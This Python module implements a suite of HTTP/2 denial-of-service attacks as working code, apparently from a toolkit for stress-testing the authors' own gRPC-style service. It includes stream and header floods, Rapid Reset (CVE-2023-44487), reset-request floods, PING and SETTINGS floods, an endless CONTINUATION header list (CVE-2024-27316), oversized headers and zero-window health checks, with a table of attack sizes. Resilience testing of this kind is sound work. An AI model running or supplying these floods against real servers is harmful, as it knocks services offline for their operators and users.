"""Attacks with HTTP/2 streams and control frames: floods, resets, header lists without end."""

from __future__ import annotations

import asyncio
import struct
from contextlib import AsyncExitStack

from tools.attacks import frames
from tools.attacks.http2_connection import Connection, Flood
from tools.attacks.plan import QUEUED_GROWTH, Attack, Pace, Size, Target

_BATCH = 200
"""Frames in one write."""
_OPEN = frames.END_HEADERS
_COMPLETE = frames.END_HEADERS | frames.END_STREAM


async def headers_only(target: Target, pace: Pace) -> None:
    """Streams on one connection that never get a body."""
    async with Flood.opened(target, pace) as flood:
        await _open_streams(flood, pace.count)
        await pace.hold()


async def headers_on_many_connections(target: Target, pace: Pace) -> None:
    """The same streams, 100 on each connection."""
    async with AsyncExitStack() as stack:
        for _ in range(pace.count // 100):
            flood = await stack.enter_async_context(Flood.opened(target, pace))
            await _open_streams(flood, 100)
        await pace.hold()


async def _open_streams(flood: Flood, count: int) -> None:
    block = frames.header_block(frames.STORAGE + "Get")
    for _ in range(0, count, _BATCH):
        if flood.closed:
            return
        await flood.send(
            b"".join(
                frames.frame(frames.HEADERS, _OPEN, stream, block)
                for stream in flood.stream_ids(min(_BATCH, count))
            )
        )


async def rapid_reset(target: Target, pace: Pace) -> None:
    """Streams that are reset at once (CVE-2023-44487), on a new connection after each end."""
    block = frames.header_block(frames.STORAGE + "Get")
    async with pace.lasting():
        while pace.more():
            async with Flood.opened(target, pace) as flood:
                while pace.more() and not flood.closed:
                    await flood.send(
                        b"".join(
                            frames.frame(frames.HEADERS, _OPEN, stream, block)
                            + frames.frame(frames.RST_STREAM, 0, stream, frames.CANCEL)
                            for stream in flood.stream_ids(_BATCH)
                        )
                    )
                    await asyncio.sleep(0)


async def reset_requests(target: Target, pace: Pace) -> None:
    """Complete requests that are reset at once."""
    block = frames.header_block(frames.HEALTH_CHECK)
    body = frames.message(b"")
    async with pace.lasting():
        while pace.more():
            async with Flood.opened(target, pace) as flood:
                while pace.more() and not flood.closed:
                    await flood.send(
                        b"".join(
                            frames.frame(frames.HEADERS, _OPEN, stream, block)
                            + frames.frame(frames.DATA, frames.END_STREAM, stream, body)
                            + frames.frame(frames.RST_STREAM, 0, stream, frames.CANCEL)
                            for stream in flood.stream_ids(_BATCH)
                        )
                    )
                    await asyncio.sleep(0)


async def pings(target: Target, pace: Pace) -> None:
    """PING frames, each of which asks for an answer."""
    await _repeat(target, pace, frames.frame(frames.PING, 0, 0, b"12345678"))


async def settings(target: Target, pace: Pace) -> None:
    """SETTINGS frames, each of which asks for an acknowledgement."""
    await _repeat(target, pace, frames.frame(frames.SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)))


async def _repeat(target: Target, pace: Pace, frame: bytes) -> None:
    async with pace.lasting():
        while pace.more():
            async with Flood.opened(target, pace) as flood:
                while pace.more() and not flood.closed:
                    await flood.send(frame * _BATCH)
                    await asyncio.sleep(0)


async def continuations(target: Target, pace: Pace) -> None:
    """Header lists that do not end (CVE-2024-27316)."""
    piece = frames.header_block("/", more=[("x-filler", "a" * 8000)])
    async with AsyncExitStack() as stack:
        floods = [
            await stack.enter_async_context(Flood.opened(target, pace)) for _ in range(pace.count)
        ]
        pace.ready()
        begin = frames.frame(frames.HEADERS, 0, 1, frames.header_block(frames.HEALTH_CHECK))
        await asyncio.gather(*(flood.send(begin) for flood in floods))
        while pace.more() and not all(flood.closed for flood in floods):
            one = frames.frame(frames.CONTINUATION, 0, 1, piece)
            await asyncio.gather(*(flood.send(one * 4) for flood in floods))
            await asyncio.sleep(0)
        await pace.hold()


async def huge_headers(target: Target, pace: Pace) -> None:
    """Calls with header lists just within and far beyond 16 KiB."""
    async with AsyncExitStack() as stack:
        for size in (15_000, 16_000, 60_000):
            flood = await stack.enter_async_context(Flood.opened(target, pace))
            filler = [(f"x-filler-{n}", "a" * 5000) for n in range(size // 5000)]
            block = frames.header_block(frames.STORAGE + "Get", more=filler)
            for stream in flood.stream_ids(pace.count):
                pieces = [block[at : at + 16_000] for at in range(0, len(block), 16_000)]
                first = frames.HEADERS, _OPEN if len(pieces) == 1 else 0
                sent = frames.frame(*first, stream, pieces[0])
                for piece in pieces[1:]:
                    last = frames.END_HEADERS if piece is pieces[-1] else 0
                    sent += frames.frame(frames.CONTINUATION, last, stream, piece)
                await flood.send(sent)
        await pace.hold()


async def unread_health_checks(target: Target, pace: Pace) -> None:
    """Complete health checks whose answers cannot be sent."""
    block = frames.header_block(frames.HEALTH_CHECK)
    body = frames.message(b"")
    closed_window = frames.frame(frames.SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    async with Flood.opened(target, pace) as flood:
        await flood.send(closed_window)
        for stream in flood.stream_ids(pace.count):
            await flood.send(
                frames.frame(frames.HEADERS, _OPEN, stream, block)
                + frames.frame(frames.DATA, frames.END_STREAM, stream, body)
            )
        await pace.hold()


async def health_watches(target: Target, pace: Pace) -> None:
    """Streams of a service that needs no token; each watches the health."""
    body = frames.message(b"")
    async with Connection.opened(target, pace) as connection:
        for _ in range(pace.count):
            await connection.call(frames.HEALTH_WATCH, body)
        await pace.hold()


ATTACKS = (
    Attack(
        "headers-only",
        "streams with headers and no body on one connection, without a token",
        headers_only,
        Size(10_000, 10, 2),
        Size(60_000, 60, 2),
    ),
    Attack(
        "headers-on-many-connections",
        "streams with headers and no body, 100 on each connection, without a token",
        headers_on_many_connections,
        Size(8_000, 10, 80),
        Size(60_000, 60, 600),
        seconds=8,
        growth=QUEUED_GROWTH,
    ),
    Attack(
        "rapid-reset",
        "streams that are reset at once, as many as possible, without a token",
        rapid_reset,
        Size(0, 200, 10_000),
        Size(0, 4000, 200_000),
    ),
    Attack(
        "reset-requests",
        "complete requests that are reset at once, as many as possible, without a token",
        reset_requests,
        Size(0, 200, 10_000),
        Size(0, 4000, 200_000),
    ),
    Attack(
        "pings",
        "PING frames, as many as possible",
        pings,
        Size(0, 200, 10_000),
        Size(0, 4000, 200_000),
    ),
    Attack(
        "settings",
        "SETTINGS frames, as many as possible",
        settings,
        Size(0, 200, 10_000),
        Size(0, 4000, 200_000),
    ),
    Attack(
        "continuations",
        "connections with a header list that does not end",
        continuations,
        Size(10, 200, 10),
        Size(100, 4000, 100),
    ),
    Attack(
        "huge-headers",
        "calls with header lists of 15, 16 and 60 kB, without a token",
        huge_headers,
        Size(300, 40, 3),
        Size(3000, 400, 3),
    ),
    Attack(
        "unread-health-checks",
        "health checks with answers that are never read",
        unread_health_checks,
        Size(10_000, 10, 2),
        Size(60_000, 60, 2),
    ),
    Attack(
        "health-watches",
        "health watches on one connection",
        health_watches,
        Size(2_000, 10, 2),
        Size(20_000, 60, 2),
    ),
)
